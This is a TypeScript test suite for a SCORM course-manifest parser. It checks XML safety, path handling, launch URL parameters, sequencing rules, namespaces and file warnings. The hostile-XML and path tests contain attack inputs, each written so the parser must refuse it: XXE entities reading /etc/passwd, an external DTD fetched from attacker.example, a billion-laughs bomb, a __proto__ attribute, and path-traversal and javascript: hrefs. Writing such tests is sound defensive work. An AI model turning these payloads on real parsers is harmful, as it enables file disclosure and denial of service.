// The manifest parser on hand-written manifests: hostile XML, unsafe paths, launch URL arithmetic, sequencing
// collections, the SCORM 1.2 and 2004 item extensions, namespaces spelt differently, and the file checks.
import t, { type Test } from 'tap';
import { parseManifest } from '../../../src/modules/courses/manifest/parse-manifest.js';
import { appendParameters, resolveHref } from '../../../src/modules/courses/manifest/paths.js';
import type { ManifestResult, ParsedPackage } from '../../../src/modules/courses/manifest/types.js';
import { flatten, manifest12, manifest2004 } from './manifest-zip.helper.js';

function ok(t: Test, result: ManifestResult): ParsedPackage {
  if (!result.ok) {
    t.fail(result.errors.map((e) => `${e.code}: ${e.message}`).join(' | '));
    throw new Error('parse failed');
  }
  return result.pkg;
}

const errorCodes = (result: ManifestResult) => (result.ok ? [] : result.errors.map((e) => e.code));
const warningCodes = (result: ManifestResult) => result.warnings.map((w) => w.code);
const files = (...names: string[]) => new Set(names);
const org = (items: string) => `<organization identifier="org"><title>Course</title>${items}</organization>`;
const sco12 = (id: string, href: string, extra = '') => `<resource identifier="${id}" type="webcontent" adlcp:scormtype="sco" href="${href}"${extra}><file href="${href.split('?')[0]}"/></resource>`;
const sco2004 = (id: string, href: string) => `<resource identifier="${id}" type="webcontent" adlcp:scormType="sco" href="${href}"/>`;

// ---- hostile XML ----

t.test('an XXE manifest is refused before parsing and no file content reaches the result', async (t) => {
  const xml = `<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<manifest identifier="x" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2">
  <organizations default="org"><organization identifier="org"><title>&xxe;</title>
    <item identifier="i" identifierref="r"><title>&xxe;</title></item></organization></organizations>
  <resources><resource identifier="r" href="a.html"/></resources>
</manifest>`;
  const reads: string[] = [];
  const result = parseManifest({ xml, files: files('a.html'), readFile: (p) => (reads.push(p), null) });
  t.same(errorCodes(result), ['XML_ENTITIES_FORBIDDEN']);
  t.notOk(JSON.stringify(result).includes('root:'), 'no /etc/passwd content anywhere');
  t.notOk('pkg' in result, 'no package at all');
  t.same(reads, [], 'nothing was read');
});

t.test('parameter entities and external DTD subsets declared with <!ENTITY are refused too', async (t) => {
  const xml = `<?xml version="1.0"?><!DOCTYPE manifest [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><manifest/>`;
  t.same(errorCodes(parseManifest({ xml, files: files() })), ['XML_ENTITIES_FORBIDDEN']);
});

t.test('a billion-laughs manifest is refused without expanding anything', async (t) => {
  const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('\n');
  const xml = `<?xml version="1.0"?>\n<!DOCTYPE manifest [\n${lol}\n]>\n<manifest identifier="x"><organizations><organization identifier="o"><title>&lol9;</title></organization></organizations></manifest>`;
  const result = parseManifest({ xml, files: files() });
  t.same(errorCodes(result), ['XML_ENTITIES_FORBIDDEN']);
  t.ok(JSON.stringify(result).length < 2000, 'the answer stays small');
});

t.test('an entity declaration in an external metadata file is as unsafe as in the manifest', async (t) => {
  const xml = manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), sco12('r', 'a.html'));
  const withLocation = xml.replace('<schemaversion>1.2</schemaversion>', '<schemaversion>1.2</schemaversion><adlcp:location>meta.xml</adlcp:location>');
  const meta = '<!DOCTYPE lom [<!ENTITY x SYSTEM "file:///etc/passwd">]><lom><general><title><langstring>&x;</langstring></title></general></lom>';
  const result = parseManifest({ xml: withLocation, files: files('a.html', 'meta.xml'), readFile: (p) => (p === 'meta.xml' ? meta : null) });
  t.same(errorCodes(result), ['XML_ENTITIES_FORBIDDEN']);
  t.match(result, { errors: [{ path: 'meta.xml' }] });
});

t.test('a DOCTYPE without entity declarations is harmless and ignored; nothing is fetched', async (t) => {
  const xml = manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), sco12('r', 'a.html')).replace(
    '<manifest',
    '<!DOCTYPE manifest SYSTEM "http://attacker.example/manifest.dtd">\n<manifest',
  );
  t.equal(ok(t, parseManifest({ xml, files: files('a.html') })).title, 'Course');
});

t.test('malformed XML names the line; an empty file and a non-manifest root are told apart', async (t) => {
  const broken = parseManifest({ xml: '<manifest>\n<organizations>\n</manifest>', files: files() });
  t.match(broken, { ok: false, errors: [{ code: 'MALFORMED_XML', message: /line 3/ }] });
  t.same(errorCodes(parseManifest({ xml: '', files: files() })), ['EMPTY_MANIFEST']);
  t.same(errorCodes(parseManifest({ xml: '<?xml version="1.0"?>\n<!-- nothing -->', files: files() })), ['EMPTY_MANIFEST']);
  t.match(parseManifest({ xml: '<html><body/></html>', files: files() }), { errors: [{ code: 'NOT_A_MANIFEST', message: /<html>/ }] });
});

t.test('attribute names that could pollute prototypes are refused, not crashed on', async (t) => {
  const result = parseManifest({ xml: '<manifest identifier="x" __proto__="y"/>', files: files() });
  t.same(errorCodes(result), ['MALFORMED_XML']);
});

// ---- paths ----

t.test('launch paths that leave the package are UNSAFE_PATH errors', async (t) => {
  const cases: [string, string][] = [
    ['href', '<resource identifier="r" adlcp:scormtype="sco" href="../../etc/passwd"/>'],
    ['percent-encoded dots', '<resource identifier="r" adlcp:scormtype="sco" href="%2e%2e/%2E%2E/etc/passwd"/>'],
    ['resource xml:base', '<resource identifier="r" adlcp:scormtype="sco" xml:base="../../" href="etc/passwd"/>'],
    ['absolute path', '<resource identifier="r" adlcp:scormtype="sco" href="/etc/passwd"/>'],
    ['file: URL', '<resource identifier="r" adlcp:scormtype="sco" href="file:///etc/passwd"/>'],
    ['javascript: URL', '<resource identifier="r" adlcp:scormtype="sco" href="javascript:alert(1)"/>'],
    ['Windows drive', '<resource identifier="r" adlcp:scormtype="sco" href="C:\\Windows\\win.ini"/>'],
    ['declared file', '<resource identifier="r" adlcp:scormtype="sco" href="a.html"><file href="../../../secret.txt"/></resource>'],
  ];
  for (const [label, resource] of cases) {
    const result = parseManifest({ xml: manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), resource), files: files('a.html', 'etc/passwd') });
    t.ok(errorCodes(result).includes('UNSAFE_PATH'), label);
    t.notOk(JSON.stringify(result).includes('"launchUrl":"/etc'), `${label}: never a launch URL`);
  }
  const manifestBase = manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), sco12('r', 'passwd')).replace('<manifest ', '<manifest xml:base="../../etc/" ');
  t.same(errorCodes(parseManifest({ xml: manifestBase, files: files('passwd') })), ['UNSAFE_PATH'], 'xml:base on <manifest>');
});

t.test('dot segments that stay inside the package are resolved; backslashes and encoded names work', async (t) => {
  t.match(resolveHref(['course/'], 'a/./../b.html'), { kind: 'local', url: 'course/b.html', file: 'course/b.html' });
  t.match(resolveHref([], 'content\\index.html'), { kind: 'local', url: 'content/index.html' });
  t.match(resolveHref([], 'my%20page.html?x=1#top'), { kind: 'local', url: 'my%20page.html?x=1#top', file: 'my page.html' });
  t.match(resolveHref(['https://cdn.example.com/course'], 'a/index.html'), { kind: 'remote', url: 'https://cdn.example.com/course/a/index.html' });
  const xml = manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), sco12('r', 'my%20page.html'));
  t.equal(flatten(ok(t, parseManifest({ xml, files: files('my page.html') })).organizations[0]?.items ?? [])[0]?.launchUrl, 'my%20page.html');
});

t.test('xml:base on <manifest>, <resources> and <resource> join into the launch URL', async (t) => {
  const xml = manifest12(org('<item identifier="i" identifierref="r" parameters="?p=1"><title>T</title></item>'), '<resource identifier="r" adlcp:scormtype="sco" xml:base="sco1" href="index.html"><file href="index.html"/></resource>')
    .replace('<manifest ', '<manifest xml:base="course/" ')
    .replace('<resources>', '<resources xml:base="./content/">');
  const pkg = ok(t, parseManifest({ xml, files: files('course/content/sco1/index.html') }));
  t.equal(pkg.resources[0]?.base, 'course/./content/sco1/');
  t.equal(pkg.resources[0]?.launchUrl, 'course/content/sco1/index.html');
  t.same(pkg.resources[0]?.files, ['course/content/sco1/index.html']);
  t.equal(pkg.organizations[0]?.items[0]?.launchUrl, 'course/content/sco1/index.html?p=1');
});

t.test('an absolute http(s) launch URL is kept as it is and not looked for in the package', async (t) => {
  const xml = manifest12(org('<item identifier="i" identifierref="r" parameters="lang=en"><title>T</title></item>'), '<resource identifier="r" adlcp:scormtype="sco" href="https://content.example.com/sco.html?id=7"/>');
  const result = parseManifest({ xml, files: files() });
  t.equal(ok(t, result).organizations[0]?.items[0]?.launchUrl, 'https://content.example.com/sco.html?id=7&lang=en');
});

t.test('item parameters join the launch URL the way the SCORM CAM describes', async (t) => {
  const table: [string, string | null, string][] = [
    ['a.html', '?y=2', 'a.html?y=2'],
    ['a.html?x=1', '?y=2', 'a.html?x=1&y=2'],
    ['a.html?x=1', 'y=2', 'a.html?x=1&y=2'],
    ['a.html?x=1', '&y=2', 'a.html?x=1&y=2'],
    ['a.html?', 'y=2', 'a.html?y=2'],
    ['a.html', '#frag', 'a.html#frag'],
    ['a.html#top', '#frag', 'a.html#top'],
    ['a.html#top', '?y=2', 'a.html?y=2#top'],
    ['a.html', '?y=2#f', 'a.html?y=2#f'],
    ['a.html', '', 'a.html'],
    ['a.html', null, 'a.html'],
  ];
  for (const [url, params, expected] of table) t.equal(appendParameters(url, params), expected, `${url} + ${params}`);
  const xml = manifest12(org('<item identifier="i" identifierref="r" parameters="?y=2"><title>T</title></item>'), sco12('r', 'a.html?x=1'));
  t.equal(ok(t, parseManifest({ xml, files: files('a.html') })).organizations[0]?.items[0]?.launchUrl, 'a.html?x=1&y=2', 'through the parser');
});

t.test('a launch page whose name differs only in case is found, and the author is told', async (t) => {
  const xml = manifest12(org('<item identifier="i" identifierref="r"><title>T</title></item>'), sco12('r', 'Content/Index.HTML'));
  const result = parseManifest({ xml, files: files('content/index.html') });
  t.equal(ok(t, result).organizations[0]?.items[0]?.launchUrl, 'content/index.html');
  t.ok(warningCodes(result).includes('LAUNCH_FILE_CASE_MISMATCH'));
});

// ---- sequencing ----

const COLLECTION = `<imsss:sequencingCollection>
  <imsss:sequencing ID="shared">
    <imsss:controlMode flow="true" forwardOnly="true"/>
    <imsss:sequencingRules>
      <imsss:preConditionRule><imsss:ruleConditions><imsss:ruleCondition condition="satisfied"/></imsss:ruleConditions><imsss:ruleAction action="skip"/></imsss:preConditionRule>
      <imsss:postConditionRule><imsss:ruleConditions><imsss:ruleCondition condition="always"/></imsss:ruleConditions><imsss:ruleAction action="retry"/></imsss:postConditionRule>
    </imsss:sequencingRules>
    <imsss:objectives><imsss:primaryObjective objectiveID="p" satisfiedByMeasure="true"><imsss:minNormalizedMeasure>0.6</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives>
    <imsss:deliveryControls completionSetByContent="true"/>
  </imsss:sequencing>
</imsss:sequencingCollection>`;

t.test('sequencingCollection: an IDRef takes the shared entry, then the item’s own statements override it', async (t) => {
  const items = `
    <item identifier="a" identifierref="r"><title>A</title>
      <imsss:sequencing IDRef="shared">
        <imsss:controlMode choice="false"/>
        <imsss:sequencingRules>
          <imsss:preConditionRule><imsss:ruleConditions conditionCombination="any"><imsss:ruleCondition condition="attempted" operator="not"/></imsss:ruleConditions><imsss:ruleAction action="disabled"/></imsss:preConditionRule>
        </imsss:sequencingRules>
      </imsss:sequencing>
    </item>
    <item identifier="b" identifierref="r"><title>B</title><imsss:sequencing IDRef="shared"/></item>`;
  const pkg = ok(t, parseManifest({ xml: manifest2004(org(items), sco2004('r', 'a.html'), COLLECTION), files: files('a.html') }));
  const [a, b] = pkg.organizations[0]?.items ?? [];
  t.same(a?.sequencing?.controlMode, { choice: false, choiceExit: true, flow: true, forwardOnly: true, useCurrentAttemptObjectiveInfo: true, useCurrentAttemptProgressInfo: true }, 'attributes stated locally win, the others stay');
  t.same(a?.sequencing?.sequencingRules.preConditionRules.map((r) => r.action), ['disabled'], 'local pre-condition rules replace the shared ones');
  t.same(a?.sequencing?.sequencingRules.postConditionRules.map((r) => r.action), ['retry'], 'shared post-condition rules stay');
  t.same(a?.sequencing?.objectives.primaryObjective, { objectiveID: 'p', satisfiedByMeasure: true, minNormalizedMeasure: 0.6, mapInfo: [] });
  t.equal(a?.sequencing?.deliveryControls.completionSetByContent, true);
  t.same(b?.sequencing?.controlMode, { choice: true, choiceExit: true, flow: true, forwardOnly: true, useCurrentAttemptObjectiveInfo: true, useCurrentAttemptProgressInfo: true }, 'the other item gets the entry untouched');
  t.same(b?.sequencing?.sequencingRules.preConditionRules.map((r) => r.action), ['skip']);
});

t.test('an IDRef to a sequencing entry that does not exist is an error naming both', async (t) => {
  const items = '<item identifier="quiz" identifierref="r"><title>Quiz</title><imsss:sequencing IDRef="nope"/></item>';
  const result = parseManifest({ xml: manifest2004(org(items), sco2004('r', 'a.html'), COLLECTION), files: files('a.html') });
  t.match(result, { ok: false, errors: [{ code: 'SEQUENCING_COLLECTION_MISSING', message: /item "quiz".*"nope"/ }] });
});

t.test('sequencing defaults are filled in, numbers are numbers and nonsense values fall back with a warning', async (t) => {
  const items = `<item identifier="a" identifierref="r"><title>A</title><imsss:sequencing>
      <imsss:limitConditions attemptLimit="3"/>
      <imsss:rollupRules objectiveMeasureWeight="0.5"><imsss:rollupRule childActivitySet="atLeastCount" minimumCount="2"><imsss:rollupConditions><imsss:rollupCondition condition="satisfied"/></imsss:rollupConditions><imsss:rollupAction action="satisfied"/></imsss:rollupRule></imsss:rollupRules>
      <imsss:randomizationControls selectCount="2" selectionTiming="onEachNewAttempt"/>
      <imsss:deliveryControls tracked="maybe"/>
      <adlseq:rollupConsiderations requiredForSatisfied="ifAttempted" measureSatisfactionIfActive="false"/>
      <adlseq:constrainedChoiceConsiderations constrainChoice="true"/>
    </imsss:sequencing></item>`;
  const result = parseManifest({ xml: manifest2004(org(items), sco2004('r', 'a.html')), files: files('a.html') });
  const seq = ok(t, result).organizations[0]?.items[0]?.sequencing;
  t.equal(seq?.limitConditions.attemptLimit, 3);
  t.same(seq?.rollupRules, { rollupObjectiveSatisfied: true, rollupProgressCompletion: true, objectiveMeasureWeight: 0.5, rules: [{ childActivitySet: 'atLeastCount', minimumCount: 2, minimumPercent: 0, conditionCombination: 'any', conditions: [{ condition: 'satisfied', operator: 'noOp' }], action: 'satisfied' }] });
  t.same(seq?.randomizationControls, { randomizationTiming: 'never', selectCount: 2, reorderChildren: false, selectionTiming: 'onEachNewAttempt' });
  t.equal(seq?.deliveryControls.tracked, true, 'tracked="maybe" falls back to the default');
  t.match(result.warnings, [{ code: 'SEQUENCING_VALUE_INVALID', message: /item "a".*tracked="maybe"/ }]);
  t.same(seq?.rollupConsiderations, { requiredForSatisfied: 'ifAttempted', requiredForNotSatisfied: 'always', requiredForCompleted: 'always', requiredForIncomplete: 'always', measureSatisfactionIfActive: false });
  t.same(seq?.constrainedChoiceConsiderations, { preventActivation: false, constrainChoice: true });
  t.same(seq?.objectives, { primaryObjective: null, objectives: [] });
});

// ---- item extensions and namespaces ----

t.test('SCORM 1.2 item extensions: masteryscore as a number, bad values warned about', async (t) => {
  const items = `<item identifier="a" identifierref="r"><title>A</title><adlcp:masteryscore>80</adlcp:masteryscore><adlcp:maxtimeallowed>00:30:00</adlcp:maxtimeallowed><adlcp:timelimitaction>exit,message</adlcp:timelimitaction><adlcp:datafromlms>level=2</adlcp:datafromlms><adlcp:prerequisites type="aicc_script">b</adlcp:prerequisites></item>
    <item identifier="b" identifierref="r" isvisible="false"><title>B</title><adlcp:masteryscore>lots</adlcp:masteryscore></item>`;
  const result = parseManifest({ xml: manifest12(org(items), sco12('r', 'a.html')), files: files('a.html') });
  const [a, b] = ok(t, result).organizations[0]?.items ?? [];
  t.match(a, { masteryScore: 80, maxTimeAllowed: '00:30:00', timeLimitAction: 'exit,message', dataFromLms: 'level=2', prerequisites: 'b', isVisible: true });
  t.match(b, { masteryScore: null, isVisible: false });
  t.match(result.warnings, [{ code: 'MASTERY_SCORE_INVALID', message: /item "b".*"lots"/ }]);
});

t.test('3rd Edition completionThreshold text means a minimum progress measure', async (t) => {
  const items = '<item identifier="a" identifierref="r"><title>A</title><adlcp:completionThreshold>0.75</adlcp:completionThreshold></item>';
  const pkg = ok(t, parseManifest({ xml: manifest2004(org(items), sco2004('r', 'a.html'), '', '2004 3rd Edition'), files: files('a.html') }));
  t.same(pkg.organizations[0]?.items[0]?.completionThreshold, { completedByMeasure: true, minProgressMeasure: 0.75, progressWeight: 1 });
});

t.test('namespace prefixes are whatever the package binds, including the default namespace', async (t) => {
  const xml = `<?xml version="1.0"?>
<cp:manifest identifier="odd" xmlns:cp="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:c="http://www.adlnet.org/xsd/adlcp_v1p3"
    xmlns:s="http://www.imsglobal.org/xsd/imsss" xmlns:q="http://www.adlnet.org/xsd/adlseq_v1p3">
  <cp:metadata><cp:schema>ADL SCORM</cp:schema><cp:schemaversion>2004 4th Edition</cp:schemaversion></cp:metadata>
  <cp:organizations default="o"><cp:organization identifier="o"><cp:title>Odd prefixes</cp:title>
    <cp:item identifier="a" identifierref="r"><cp:title>A</cp:title>
      <sequencing xmlns="http://www.imsglobal.org/xsd/imsss">
        <controlMode flow="true"/>
        <objectives><primaryObjective objectiveID="p"/><objective objectiveID="o1"/></objectives>
        <q:objectives><q:objective objectiveID="p"><q:mapInfo targetObjectiveID="g" writeRawScore="true"/></q:objective></q:objectives>
      </sequencing>
    </cp:item></cp:organization></cp:organizations>
  <cp:resources><cp:resource identifier="r" type="webcontent" c:scormType="sco" href="a.html"/></cp:resources>
</cp:manifest>`;
  const pkg = ok(t, parseManifest({ xml, files: files('a.html') }));
  const item = pkg.organizations[0]?.items[0];
  t.equal(item?.scormType, 'sco');
  t.equal(item?.sequencing?.controlMode.flow, true);
  t.same(item?.sequencing?.objectives.objectives.map((o) => o.objectiveID), ['o1'], 'imsss objectives only');
  t.match(item?.sequencing?.adlObjectives, [{ objectiveID: 'p', mapInfo: [{ targetObjectiveID: 'g', writeRawScore: true, readRawScore: true }] }], 'adlseq objectives kept apart');
});

// ---- versions ----

t.test('edition comes from <schemaversion>, else from namespaces and edition-only elements', async (t) => {
  const items = '<item identifier="a" identifierref="r"><title>A</title></item>';
  const cam13 = ok(t, parseManifest({ xml: manifest2004(org(items), sco2004('r', 'a.html'), '', 'CAM 1.3'), files: files('a.html') }));
  t.same([cam13.standard, cam13.edition, cam13.schemaVersion], ['scorm2004', '2nd', 'CAM 1.3']);

  const fourthByFeature = manifest2004(org(items.replace('</item>', '<adlcp:data><adlcp:map targetID="x"/></adlcp:data></item>')), sco2004('r', 'a.html')).replace(/<schemaversion>.*<\/schemaversion>/, '');
  const fourth = parseManifest({ xml: fourthByFeature, files: files('a.html') });
  t.same([ok(t, fourth).edition, ok(t, fourth).schemaVersion], ['4th', null]);
  t.same(warningCodes(fourth), ['SCHEMA_VERSION_MISSING']);

  const twelve = parseManifest({ xml: manifest12(org(items), sco12('r', 'a.html')).replace('<schemaversion>1.2</schemaversion>', ''), files: files('a.html') });
  t.same([ok(t, twelve).standard, ok(t, twelve).edition], ['scorm12', null]);
  t.same(warningCodes(twelve), ['SCHEMA_VERSION_MISSING']);
});

// ---- organizations, items, problems ----

t.test('every problem is collected in one pass, each naming the item, resource or file', async (t) => {
  const items = `<item identifier="lost" identifierref="nowhere"><title>Lost</title></item>
    <item identifier="bare" identifierref="nohref"><title>Bare</title></item>
    <item identifier="gone" identifierref="missing"><title>Gone</title></item>
    <item identifier="evil" identifierref="evil"><title>Evil</title></item>`;
  const resources = `<resource identifier="nohref" adlcp:scormtype="sco"/>${sco12('missing', 'pages/gone.html')}${sco12('evil', '../../x.html')}`;
  const result = parseManifest({ xml: manifest12(org(items), resources), files: files() });
  t.same(errorCodes(result).sort(), ['LAUNCH_FILE_MISSING', 'MISSING_LAUNCH_URL', 'MISSING_RESOURCE', 'UNSAFE_PATH', 'UNSAFE_PATH']);
  t.match(result, {
    errors: [
      { code: 'UNSAFE_PATH', message: /resource "evil" lists the file "\.\.\/\.\.\/x\.html"/ },
      { code: 'UNSAFE_PATH', message: /launch page of resource "evil"/ },
      { code: 'MISSING_RESOURCE', message: /item "lost".*"nowhere"/, path: 'organization[org]/item[lost]' },
      { code: 'MISSING_LAUNCH_URL', message: /item "bare".*"nohref"/ },
      { code: 'LAUNCH_FILE_MISSING', message: /item "gone" launches "pages\/gone\.html"/ },
    ],
  });
});

t.test('an organization of empty aggregations has nothing to launch', async (t) => {
  const result = parseManifest({ xml: manifest12(org('<item identifier="a"><title>Chapter</title><item identifier="b"><title>Section</title></item></item>'), ''), files: files() });
  t.match(result, { ok: false, errors: [{ code: 'NO_LAUNCHABLE_ITEM', message: /"Course"/ }] });
  const nothing = parseManifest({ xml: manifest12('', ''), files: files() });
  t.match(nothing, { ok: false, errors: [{ code: 'NO_LAUNCHABLE_ITEM' }] });
});

t.test('missing titles fall back to identifiers; hidden items and parents with resources are kept', async (t) => {
  const items = '<item identifier="parent" identifierref="r"><title>Parent</title><item identifier="child" identifierref="r" isvisible="false"/></item>';
  const result = parseManifest({ xml: manifest12(org(items), sco12('r', 'a.html')), files: files('a.html') });
  const pkg = ok(t, result);
  const [parent, child] = flatten(pkg.organizations[0]?.items ?? []);
  t.match(parent, { resourceId: 'r', children: [{ identifier: 'child' }] });
  t.match(child, { title: 'child', isVisible: false, launchUrl: 'a.html' });
  t.same([pkg.itemCount, pkg.scoCount, pkg.launchableCount], [2, 2, 2]);
  t.match(result.warnings, [{ code: 'ITEM_TITLE_MISSING', message: /item "child"/ }]);
});

t.test('several organizations: the default one is counted, a missing default falls back to the first', async (t) => {
  const orgs = `<organization identifier="one"><title>One</title><item identifier="a" identifierref="r"><title>A</title></item></organization>
    <organization identifier="two"><title>Two</title><item identifier="b" identifierref="r"><title>B</title></item><item identifier="c" identifierref="r"><title>C</title></item></organization>`;
  const chosen = ok(t, parseManifest({ xml: manifest12(orgs, sco12('r', 'a.html')).replace('default="org"', 'default="two"'), files: files('a.html') }));
  t.same([chosen.defaultOrganizationId, chosen.title, chosen.itemCount], ['two', 'Two', 2]);
  const fallback = parseManifest({ xml: manifest12(orgs, sco12('r', 'a.html')), files: files('a.html') });
  t.same([ok(t, fallback).defaultOrganizationId, ok(t, fallback).itemCount], ['one', 1]);
  t.match(fallback.warnings, [{ code: 'DEFAULT_ORGANIZATION_MISSING', message: /"org" does not exist.*"One"/ }]);
});

// ---- files ----

t.test('declared files missing from the package: one warning each, the rest summarised after 50', async (t) => {
  const fileList = Array.from({ length: 60 }, (_, i) => `<file href="img/${i}.png"/>`).join('');
  const xml = manifest12(org('<item identifier="a" identifierref="r"><title>A</title></item>'), `<resource identifier="r" adlcp:scormtype="sco" href="a.html"><file href="a.html"/>${fileList}</resource>`);
  const result = parseManifest({ xml, files: files('a.html') });
  const missing = result.warnings.filter((w) => w.code === 'DECLARED_FILE_MISSING');
  t.equal(missing.length, 51);
  t.match(missing[0], { message: /"img\/0\.png"/, path: 'img/0.png' });
  t.match(missing[50], { message: /^10 more files/ });
});

t.test('undeclared files are summarised once; schemas, metadata and macOS junk are not counted', async (t) => {
  const xml = manifest12(org('<item identifier="a" identifierref="r"><title>A</title></item>'), sco12('r', 'a.html')).replace(
    '<schemaversion>1.2</schemaversion>',
    '<schemaversion>1.2</schemaversion><adlcp:location>meta.xml</adlcp:location>',
  );
  const all = files('imsmanifest.xml', 'a.html', 'adlcp_rootv1p2.xsd', 'common/x.dtd', 'meta.xml', '__MACOSX/._a.html', 'img/.DS_Store', 'extra/one.js', 'extra/two.js');
  const result = parseManifest({ xml, files: all, readFile: (p) => (p === 'meta.xml' ? '<lom><general><title><langstring>Meta</langstring></title></general></lom>' : null) });
  t.same(warningCodes(result).sort(), ['MACOSX_JUNK', 'UNDECLARED_FILES']);
  t.match(result.warnings.find((w) => w.code === 'UNDECLARED_FILES'), { message: /^2 files in the package are not listed.*"extra\/one\.js", "extra\/two\.js"/ });
  t.equal(ok(t, result).metadata?.title, 'Meta');
});

t.test('an external metadata file that is missing is a warning, not a failure', async (t) => {
  const xml = manifest12(org('<item identifier="a" identifierref="r"><title>A</title></item>'), sco12('r', 'a.html')).replace('</schemaversion>', '</schemaversion><adlcp:location>gone.xml</adlcp:location>');
  const result = parseManifest({ xml, files: files('a.html'), readFile: () => null });
  t.same(warningCodes(result), ['METADATA_FILE_MISSING']);
  t.equal(ok(t, result).metadata?.location, 'gone.xml');
});

t.test('dependencies: full file lists follow chains, survive cycles and report missing resources', async (t) => {
  const resources = `<resource identifier="r" adlcp:scormtype="sco" href="a.html"><file href="a.html"/><dependency identifierref="d1"/><dependency identifierref="ghost"/></resource>
    <resource identifier="d1" adlcp:scormtype="asset"><file href="d1.js"/><dependency identifierref="d2"/></resource>
    <resource identifier="d2" adlcp:scormtype="asset"><file href="d2.js"/><dependency identifierref="d1"/></resource>`;
  const result = parseManifest({ xml: manifest12(org('<item identifier="a" identifierref="r"><title>A</title></item>'), resources), files: files('a.html', 'd1.js', 'd2.js') });
  t.same(ok(t, result).resources[0]?.allFiles, ['a.html', 'd1.js', 'd2.js']);
  t.match(result.warnings, [{ code: 'DEPENDENCY_MISSING', message: /"r" depends on "ghost"/ }]);
});
